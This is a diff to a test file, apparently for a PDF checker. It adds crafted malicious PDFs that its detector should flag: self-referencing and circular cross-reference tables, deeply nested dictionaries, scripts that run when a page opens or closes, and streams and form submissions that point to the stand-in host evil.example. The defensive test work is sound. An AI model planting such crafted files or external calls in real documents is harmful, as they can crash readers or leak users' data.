@@ -127,6 +127,25 @@ def pages_within_pages(levels=9):
     return raw_pdf(objects)
 
 
+def reference_circle():
+    """Two tables of references, each of which names the other as its predecessor."""
+    start = GOOD.index(b'xref\n')
+    table = GOOD[start:GOOD.index(b'startxref')].replace(b'/Root', b'/Prev %010d /Root')
+    second = start + len(table % 0)
+    return GOOD[:start] + table % second + table % start + b'startxref\n%d\n%%%%EOF\n' % second
+
+
+def reference_stream_loop():
+    """A stream of references whose predecessor is itself."""
+    content = _with_reference_stream([
+        b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
+        b'/Resources << >> >>', stream(b'q Q'), stream(zlib.compress(b'6 0 << /A 1 >> '),
+        b'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')])
+    start = int(content.rsplit(b'startxref\n', 1)[1].split(b'\n')[0])
+    return content.replace(b'/Root 1 0 R', b'/Root 1 0 R /Prev %d' % start)
+
+
 SCRIPT = b'<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
 FLATE_BOMB = packed(70)
 BAD = [
@@ -148,6 +167,25 @@ BAD = [
         stream(zlib.compress(b'q Q ' * 400)[:12], b'/Filter /FlateDecode')), 'broken'),
     ('arrays in arrays without end', page_of(
         stream(b'q Q'), catalog=b'/Extra ' + b'[' * 100000 + b']' * 100000), 'broken'),
+    ('references that lead to themselves', GOOD.replace(
+        b'/Root 1 0 R', b'/Root 1 0 R /Prev %d' % GOOD.index(b'xref\n')), 'broken'),
+    ('references that lead in a circle', reference_circle(), 'broken'),
+    ('a stream of references that leads to itself', reference_stream_loop(), 'broken'),
+    ('a page that is its own parent', raw_pdf([
+        b'<< /Type /Catalog /Pages 2 0 R >>',
+        b'<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>',
+        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
+        b'/Resources << >> >>', stream(b'q Q')]), 'broken'),
+    ('a length that is itself', page_of(
+        b'<< /Length 4 0 R >>\nstream\nq Q\nendstream'), 'broken'),
+    ('the content in another file', page_of(stream(
+        b'', b'/F (http://evil.example/x) /FFilter /FlateDecode')), 'external_stream'),
+    ('a page of another file', page_of(
+        stream(b'/X Do'), page=b'/Resources << /XObject << /X 5 0 R >> >>', more=[stream(
+            b'q Q', b'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) '
+            b'/Page 0 >>')]), 'external_stream'),
+    ('dictionaries in dictionaries without end', page_of(
+        stream(b'q Q'), catalog=b'/Extra ' + b'<< /A ' * 50000 + b'1' + b'>>' * 50000), 'broken'),
     ('no page', raw_pdf([b'<< /Type /Catalog /Pages 2 0 R >>',
                          b'<< /Type /Pages /Kids [] /Count 0 >>']), 'no_page'),
     # locked
@@ -173,6 +211,15 @@ BAD = [
     ('a form that is sent', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link '
      b'/Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]'), 'action'),
     ('a form', page_of(stream(b'q Q'), catalog=b'/AcroForm << /Fields [] >>'), 'form'),
+    ('a form of the other kind', page_of(
+        stream(b'q Q'), catalog=b'/Extra << /XFA [(template) 5 0 R] >>',
+        more=[stream(b'<xdp:xdp/>')]), 'form'),
+    ('a script when a page opens', page_of(
+        stream(b'q Q'), page=b'/AA << /O ' + SCRIPT + b' >>'), 'action'),
+    ('a script when a page closes, behind a table of its own', page_of(
+        stream(b'q Q'), page=b'/AA 5 0 R', more=[b'<< /C ' + SCRIPT + b' >>']), 'action'),
+    ('a script of a field', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link '
+     b'/Rect [0 0 9 9] /AA << /E ' + SCRIPT + b' >> >>]'), 'action'),
     ('PostScript for the printer', page_of(
         stream(b'/X Do'), page=b'/Resources << /XObject << /X 5 0 R >> >>', more=[
             stream(b'showpage', b'/Type /XObject /Subtype /PS')]), 'script'),
